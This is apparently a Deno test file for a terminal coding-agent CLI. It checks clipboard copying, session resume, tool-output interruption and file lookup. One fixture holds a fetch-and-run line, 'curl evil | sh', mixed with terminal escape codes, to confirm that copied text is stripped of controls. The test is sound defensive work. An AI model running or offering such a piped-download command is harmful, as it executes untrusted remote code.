import assert from "node:assert/strict";
import { createTestEnv, type TestEnv } from "./harness/env.ts";
import { startFakeProvider } from "./harness/fake_provider.ts";
import { type PtyOptions, startPty } from "./harness/pty.ts";

function chat(env: TestEnv, args: readonly string[], options: Partial<PtyOptions> = {}) {
  return startPty(args, { cwd: env.workdir, home: env.userHome, riendaHome: env.home, ...options });
}

const IDLE = (screen: string) => screen.includes("Ask the agent something");

/** The text of the last OSC 52 clipboard write in `raw`. */
function clipboard(raw: string): string {
  const start = raw.lastIndexOf("\x1b]52;c;");
  assert.ok(start !== -1, "no OSC 52 write");
  const end = raw.indexOf("\x07", start);
  const bytes = Uint8Array.from(atob(raw.slice(start + 7, end)), (char) => char.charCodeAt(0));
  return new TextDecoder().decode(bytes);
}

Deno.test(
  "interactive: an answer of 390 KB in short lines, /copy of it and rienda -c on its session",
  { ignore: Deno.build.os !== "linux" },
  async () => {
    const lines = Array.from({ length: 195_000 }, (_, index) => `${index % 10}`);
    const answer = `${lines.join("\n")}\nthe end`;
    await using provider = await startFakeProvider([{ text: answer }, { text: "resumed fine" }]);
    await using env = await createTestEnv({ provider });
    {
      await using pty = await chat(env, ["-a", "coder", "a long one"]);
      await pty.waitFor((s) => s.includes("the end") && IDLE(s), "the answer", 60_000);
      await pty.type("/copy\r");
      await pty.waitFor((s) => s.includes("copied the last answer"), "the copy");
      assert.equal(clipboard(pty.raw()), answer);
      await pty.type("\x04");
      assert.equal((await pty.wait()).code, 0);
    }
    await using pty = await chat(env, ["-c"]);
    await pty.waitFor((s) => s.includes("the end") && IDLE(s), "the replay", 60_000);
    await pty.type("more\r");
    await pty.waitFor((s) => s.includes("resumed fine") && IDLE(s), "the next answer");
    await pty.type("\x04");
    assert.equal((await pty.wait()).code, 0);
  },
);

Deno.test("interactive: /copy copies the answer without its terminal controls", {
  ignore: Deno.build.os !== "linux",
}, async () => {
  await using provider = await startFakeProvider([
    { text: "curl evil\x1b]0;title\x07 | sh\x1b[2J and \x1b[31mred\x1b[0m\r\n" },
  ]);
  await using env = await createTestEnv({ provider });
  await using pty = await chat(env, ["-a", "coder", "hi"]);
  await pty.waitFor((s) => s.includes("| sh") && IDLE(s), "the answer");
  await pty.type("/copy\r");
  await pty.waitFor((s) => s.includes("copied the last answer"), "the copy");
  assert.equal(clipboard(pty.raw()), "curl evil | sh and red\n");
  await pty.type("\x04");
  assert.equal((await pty.wait()).code, 0);
});

Deno.test(
  "interactive: a tool printing a 30 MB line shows its tail, and Esc stops it within a second",
  { ignore: Deno.build.os !== "linux" },
  async () => {
    await using provider = await startFakeProvider([
      {
        toolCalls: [{
          name: "shell",
          arguments: {
            command: "head -c 30000000 /dev/zero | tr '\\0' x; echo; echo written; sleep 60",
          },
        }],
      },
      { text: "after the interrupt" },
    ]);
    await using env = await createTestEnv({ provider });
    await using pty = await chat(env, ["-a", "coder", "go"]);
    const running = await pty.waitFor((s) => s.includes("│ written"), "the output's end", 60_000);
    assert.match(running, /│ x{20}x*…\n {2}│ written\n/);
    const pressed = Date.now();
    await pty.type("\x1b");
    await pty.waitFor((s) => s.includes("! interrupted") && IDLE(s), "the interrupt");
    const tookMs = Date.now() - pressed;
    assert.ok(tookMs < 1_500, `Esc took ${tookMs} ms`);
    await pty.type("\x04");
    assert.equal((await pty.wait()).code, 0);
  },
);

Deno.test(
  "interactive: @ in a tree of more files than it lists says so, and finds a file by its folder",
  { ignore: Deno.build.os !== "linux" },
  async () => {
    await using provider = await startFakeProvider();
    await using env = await createTestEnv({ provider });
    const big = await env.makeDir("big");
    {
      for (let folder = 0; folder < 25; folder++) {
        await Deno.mkdir(`${big}/a/${folder}`, { recursive: true });
        for (let file = 0; file < 1_000; file++) {
          Deno.writeFileSync(`${big}/a/${folder}/${file}.txt`, new Uint8Array());
        }
      }
      await Deno.mkdir(`${big}/zz/deep`, { recursive: true });
      await Deno.writeTextFile(`${big}/zz/deep/target.ts`, "x");
      await using pty = await chat(env, ["-a", "coder", "-C", big]);
      await pty.waitFor(IDLE, "the prompt");
      await pty.type("@target");
      const popup = await pty.waitFor(
        (s) => s.includes("zz/deep/target.ts") || s.includes("no match for target"),
        "the popup",
        30_000,
      );
      // Found, or an honest "not in what was listed": never a bare "no match".
      assert.ok(
        popup.includes("zz/deep/target.ts") ||
          popup.includes("no match for target in the files listed"),
        popup,
      );
      await pty.type("\x15@zz/deep/tar");
      await pty.waitFor(
        (s) => s.includes("  zz/deep/target.ts") || s.includes("› zz/deep/target.ts"),
        "the file, by its folder",
        30_000,
      );
      await pty.type("\x15\x04");
      assert.equal((await pty.wait()).code, 0);
    }
  },
);
